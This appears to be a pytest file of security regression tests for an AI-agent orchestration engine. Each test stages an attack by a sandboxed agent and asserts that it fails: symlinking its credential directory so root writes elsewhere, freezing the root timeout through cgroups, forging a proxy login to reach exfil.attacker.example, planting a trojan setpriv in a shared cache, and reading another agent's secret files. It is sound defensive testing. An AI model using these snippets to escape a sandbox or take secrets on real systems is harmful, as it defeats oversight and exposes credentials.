"""Attacks on the code added with egress, the harness cache and dropped-privilege local
agents. Each test is a real attack with real components (tmux, processes, sockets);
each one failed before its fix."""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import time
from pathlib import Path

import pytest

from engine import egress
from tests.conftest import git, write_grove
from tests.test_egress_gateway import start_tcp_gateway

AS_ROOT = pytest.mark.skipif(os.geteuid() != 0 or shutil.which("tmux") is None,
                             reason="the engine must be root (agents then run as uid 1000)")


def _local_grove(repo: Path, task: str, extra_profile: str = "", harness: str = "cfg",
                 restart: str = "on-failure", agent_extra: str = "") -> None:
    text = f"""\
apiVersion: engine/v1alpha1
kind: Grove
metadata: {{name: g}}
spec:
  defaults: {{profile: box, harness: {harness}}}
  harnesses:
    cfg:
      command: [bash, -c, "{{{{ task }}}}"]
      taskArg: none
      instructionsFile: null
      auth:
        - name: login
          files: [{{credential: CFG_TOKEN, path: .cfg/cred.json}}]
  profiles:
    box: {{runtime: local, credentials: {{CFG_TOKEN: {{fromEnv: ATK_CFG_TOKEN}}}}{extra_profile}}}
  agents:
    - name: a
      restart: {restart}
      task: {json.dumps(task)}
{agent_extra}"""
    write_grove(repo, "g", text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "grove")


def _wait_done(engine, timeout: float = 60) -> dict:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while True:
        res = engine("status", "--json")
        assert res.code == 0, res
        st = json.loads(res.out)["groves"][0]["agents"][0]
        if st["phase"] in ("Succeeded", "Failed"):
            return st
        assert time.monotonic() < deadline, st
        time.sleep(0.2)


# --- 1. the root engine writes credential files through the agent's own home -------------


@AS_ROOT
def test_credential_file_is_not_written_through_an_agent_symlink(
        repo: Path, engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    victim = tmp_path / "root-only"  # a directory the agent cannot even enter
    victim.mkdir(mode=0o700)
    monkeypatch.setenv("ATK_CFG_TOKEN", "agent-credential")
    # first run: the agent swaps the directory of its credential file for a symlink to the
    # victim directory and fails; restart: on-failure makes the next apply re-create it
    _local_grove(repo, f"[ -L ~/.cfg ] && exit 0; rm -rf ~/.cfg; ln -s {victim} ~/.cfg; "
                       "exit 1")
    assert engine("apply", "--auto-approve").code == 0
    assert _wait_done(engine)["phase"] == "Failed"
    engine("apply", "--auto-approve")
    _wait_done(engine)
    engine("destroy", "--auto-approve")
    assert not (victim / "cred.json").exists(), "root wrote into a directory the agent chose"


@AS_ROOT
def test_a_home_file_turned_into_a_directory_or_fifo_fails_the_restart_cleanly(
        repo: Path, engine, monkeypatch: pytest.MonkeyPatch) -> None:
    """The agent leaves a directory where its `.profile` goes and a FIFO where its
    credential file goes: the restart fails that agent with one line, without blocking on
    the FIFO or following anything; the engine itself does not crash."""
    monkeypatch.setenv("ATK_CFG_TOKEN", "agent-credential")
    _local_grove(repo, "[ -d ~/.profile ] && exit 0; rm -f ~/.profile ~/.cfg/cred.json; "
                       "mkdir ~/.profile; mkfifo ~/.cfg/cred.json; exit 1")
    assert engine("apply", "--auto-approve").code == 0
    assert _wait_done(engine)["phase"] == "Failed"
    started = time.monotonic()
    res = engine("apply", "--auto-approve")
    assert time.monotonic() - started < 30
    assert res.code == 1 and "Traceback" not in res.out + res.err
    assert "cannot be written" in res.out + res.err and "refused" in res.out + res.err
    engine("destroy", "--auto-approve")


# --- 2. the delegated cgroup lets the agent freeze the root `timeout` above it ------------


@AS_ROOT
def test_agent_cannot_freeze_the_timeout_that_enforces_max_duration(
        repo: Path, engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ATK_CFG_TOKEN", "x")
    task = ('cg=/sys/fs/cgroup/unified$(sed -n "s/^0:://p" /proc/self/cgroup); '
            '[ -w "$cg/cgroup.procs" ] || '
            'cg=/sys/fs/cgroup$(sed -n "s/^0:://p" /proc/self/cgroup); '
            'mkdir "$cg/ice" && echo $PPID > "$cg/ice/cgroup.procs" '
            '&& echo 1 > "$cg/ice/cgroup.freeze" && echo frozen > FROZE; sleep 8; exit 0')
    _local_grove(repo, task, restart="never", agent_extra="      maxDuration: 2\n")
    assert engine("apply", "--auto-approve").code == 0
    try:  # maxDuration 2 s + `timeout -k 10`: long over after 20 s
        st = _wait_done(engine, 20)
    except AssertionError as e:
        st = {"phase": f"still running: {e}"}
    froze = (repo / ".engine/worktrees/g/a/FROZE").exists()
    engine("destroy", "--auto-approve")
    # the timer runs outside the agent's cgroup: it cannot be moved, let alone frozen
    assert not froze
    assert st["phase"] == "Failed", f"ran past maxDuration: {st}"


# --- 3. the gateway's TCP listener (Kubernetes) ---------------------------------------------


@pytest.fixture
def tcp_gateway(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    """A gateway with a TCP listener, as in a cluster: (root, port). Agent g/victim has a
    token; nothing else is served."""
    monkeypatch.setenv("ENGINE_EGRESS_HEAD_TIMEOUT", "5")
    root = tmp_path / "repo"
    root.mkdir()
    egress.write_policy(root, "g", "victim", ["127.0.0.1:9"], token="victim-token")
    proc, port = start_tcp_gateway(root)
    yield root, port
    proc.terminate()
    proc.wait(10)


def _records(root: Path, n: int) -> list[dict]:
    deadline = time.monotonic() + 5
    while len(found := egress.read_log(root)) < n and time.monotonic() < deadline:
        time.sleep(0.05)
    return found


def test_unauthenticated_client_cannot_write_records_in_another_agents_name(
        tcp_gateway: tuple[Path, int]) -> None:
    root, port = tcp_gateway
    forged = base64.b64encode(b"g/victim:not-the-token").decode()
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(f"CONNECT exfil.attacker.example:443 HTTP/1.1\r\n"
                  f"Proxy-Authorization: Basic {forged}\r\n\r\n".encode())
        assert s.recv(100).startswith(b"HTTP/1.1 407")
    rec = _records(root, 1)[0]
    assert rec["status"] == 407
    # `engine egress victim` now shows the victim trying to reach the attacker's host
    assert (rec["grove"], rec["agent"]) != ("g", "victim"), rec


def test_one_tcp_client_cannot_lock_every_agent_out(tcp_gateway: tuple[Path, int]) -> None:
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < 4096:
        pytest.skip("needs 2048 descriptors")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 4096), hard))
    _, port = tcp_gateway
    silent = []
    try:
        for _ in range(1100):  # an attacker: connect, send nothing
            silent.append(socket.create_connection(("127.0.0.1", port), timeout=10))
        time.sleep(0.5)
        auth = base64.b64encode(b"g/victim:victim-token").decode()
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(f"CONNECT 127.0.0.1:9 HTTP/1.1\r\n"
                      f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
            reply = s.recv(200)
        # the victim is authenticated and its endpoint listed: anything but 503 "too many"
        assert b"too many connections" not in reply, reply
    finally:
        for s in silent:
            s.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


# --- 4. the spawn gate: egress is not below every named network ------------------------------


def test_named_network_parent_cannot_spawn_a_child_with_arbitrary_egress() -> None:
    import dataclasses
    import tempfile

    from engine import policy
    from tests.test_spawn_gate import PARENT, build, grove_text

    assert PARENT["network"] == "agents"  # a named Docker network
    with tempfile.TemporaryDirectory() as tmp:
        seed = build(Path(tmp), grove_text(PARENT, {})).by_name["seed"]
    child = dataclasses.replace(seed, network="egress",
                                egress=("127.0.0.1:2375", "paste.example:443"))
    assert policy.compare(seed, child) != []


# --- 5. the root wrapper trusts the harness cache's bin/ for its own commands ---------------


@AS_ROOT
def test_root_wrapper_does_not_run_commands_from_an_agent_writable_cache(
        repo: Path, engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from engine import harness_install
    cache = tmp_path / "shared-cache"  # e.g. /tmp/grove-engine-cache, created by uid 1000
    version = harness_install.entry("claude").version
    inst = cache / "harnesses" / "claude" / version
    (inst / "bin").mkdir(parents=True)
    (inst / "install.json").write_text(json.dumps({"bin": "claude"}))
    (inst / "bin" / "claude").write_text("#!/bin/sh\nexit 0\n")
    marker = tmp_path / "pwned-as-root"
    (inst / "bin" / "setpriv").write_text(
        f"#!/bin/sh\nid -u > {marker}\nexec /usr/bin/setpriv \"$@\"\n")
    for p in [cache, *cache.rglob("*")]:
        os.chown(p, 1000, 1000)
        p.chmod(0o755)
    monkeypatch.setenv("GROVE_ENGINE_CACHE", str(cache))
    monkeypatch.setenv("ATK_KEY", "sk-test")
    text = """\
apiVersion: engine/v1alpha1
kind: Grove
metadata: {name: g}
spec:
  defaults: {profile: box, harness: claude}
  profiles:
    box: {runtime: local, credentials: {ANTHROPIC_API_KEY: {fromEnv: ATK_KEY}}}
  agents:
    - name: a
      restart: never
      task: hello
"""
    write_grove(repo, "g", text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "grove")
    res = engine("apply", "--auto-approve")
    if res.code == 0:
        _wait_done(engine, 30)
    else:  # the cache is not root's: as root it is not used at all
        assert "harness claude is not installed" in res.err, res
    engine("destroy", "--auto-approve")
    assert not marker.exists(), f"ran as uid {marker.read_text().strip()}"


# --- 6. one agent grows the host's event log without bound -----------------------------------


@pytest.mark.slow
def test_refusal_flood_does_not_grow_the_event_log_without_bound(tmp_path: Path) -> None:
    import threading
    root = tmp_path / "repo"
    root.mkdir()
    egress.write_policy(root, "g", "a", ["127.0.0.1:9"])
    egress.ensure_running(root)
    path = egress.socket_dir(root, "g", "a") / egress.SOCKET_NAME
    count = [0]

    def flood(stop: float) -> None:
        while time.monotonic() < stop:
            with socket.socket(socket.AF_UNIX) as s:
                with egress.short_path(path) as addr:
                    s.connect(addr)
                s.sendall(b"CONNECT anything.example:443 HTTP/1.1\r\n\r\n")
                s.recv(200)
            count[0] += 1

    try:
        stop = time.monotonic() + 4
        threads = [threading.Thread(target=flood, args=(stop,)) for _ in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        time.sleep(3)
        events = (root / ".engine" / "events.jsonl").read_text().count('"Egress"')
    finally:
        egress.stop(root)
    assert count[0] > 2000, "the flood was too slow to show anything"
    assert events < 1000, f"{count[0]} refusals in 4 s became {events} fsynced events"


# --- 7. a local uid-1000 agent reads the sandboxed agents' secrets ---------------------------


@AS_ROOT
@pytest.mark.docker
def test_local_agent_cannot_read_a_docker_agents_secret_files(
        repo: Path, engine, base_image: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ATK_SANDBOX_KEY", "sandbox-only-secret-4711")
    text = f"""\
apiVersion: engine/v1alpha1
kind: Grove
metadata: {{name: g}}
spec:
  defaults: {{harness: shell}}
  profiles:
    box: {{runtime: docker, image: {base_image},
           credentials: {{SANDBOX_KEY: {{fromEnv: ATK_SANDBOX_KEY}}}}}}
    here: {{runtime: local}}
  agents:
    - name: boxed
      profile: box
      restart: never
      task: sleep 60
    - name: loc
      profile: here
      restart: never
      task: |
        for i in $(seq 1 100); do
          cat {repo}/.engine/run/g/boxed/secrets/* > STOLEN 2>/dev/null && [ -s STOLEN ] && break
          sleep 0.2
        done
        exit 0
"""
    write_grove(repo, "g", text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "grove")
    try:
        assert engine("apply", "--auto-approve").code == 0, "apply"
        deadline = time.monotonic() + 60
        stolen = repo / ".engine/worktrees/g/loc/STOLEN"
        while time.monotonic() < deadline:
            st = {a["name"]: a["phase"] for a in
                  json.loads(engine("status", "--json").out)["groves"][0]["agents"]}
            if st.get("loc") in ("Succeeded", "Failed"):
                break
            time.sleep(0.3)
        got = stolen.read_text() if stolen.exists() else ""
    finally:
        engine("destroy", "--auto-approve")
    assert "sandbox-only-secret-4711" not in got
